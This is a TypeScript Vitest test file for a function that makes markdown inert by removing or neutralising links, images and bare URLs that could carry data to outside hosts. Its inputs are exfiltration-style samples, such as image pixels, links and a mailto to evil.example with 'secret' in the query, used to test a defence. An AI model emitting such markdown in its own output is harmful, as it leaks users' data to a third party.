import { expect, it } from 'vitest'
import { inertMarkdown } from './inert-markdown.ts'

it.each([
  ['![pixel](https://evil.example/p.png?d=secret)', 'pixel'],
  ['See [the report](https://evil.example/?d=secret).', 'See the report.'],
  ['[the report][r]\n\n[r]: https://evil.example/?d=1', 'the report'],
  ['The limit is $1 [1].\n\n[1]: https://evil.example/?d=1', 'The limit is $1 [1].'],
  ['![x][p]\n\n[p]: https://evil.example/p.png', 'x'],
  ['Open https://evil.example/?d=secret now', 'Open `https://evil.example/?d=secret` now'],
  ['Open <https://evil.example/?d=secret>', 'Open `https://evil.example/?d=secret`'],
  ['Open www.evil.example/x', 'Open `www.evil.example/x`'],
  ['[![x](https://evil.example/p.png)](https://evil.example)', 'x'],
  ['[mail](mailto:desk@evil.example?body=secret)', 'mail'],
  ['[x](/app/accounts?secret=1) [y](//evil.example)', 'x y'],
])('takes out what could carry words away: %s', (written, inert) => {
  expect(inertMarkdown(written).trim()).toBe(inert)
})

it('keeps what leads nowhere else: pages of the product, addresses of mail, marks and tables', () => {
  const text =
    '[Bayview](/app/accounts/6f1e) writes from office@bayview.example [1].\n\n| Limit | $1 |\n|---|---|\n| **GL** | `x` |'
  expect(inertMarkdown(text)).toBe(text)
})

it('keeps links to what the run has found on the web', () => {
  const text = '- **Rules** ([naic.example](<https://naic.example/rules>))'
  expect(inertMarkdown(text, new Set(['https://naic.example/rules']))).toBe(text)
  expect(inertMarkdown(text)).toBe('- **Rules** (naic.example)')
})
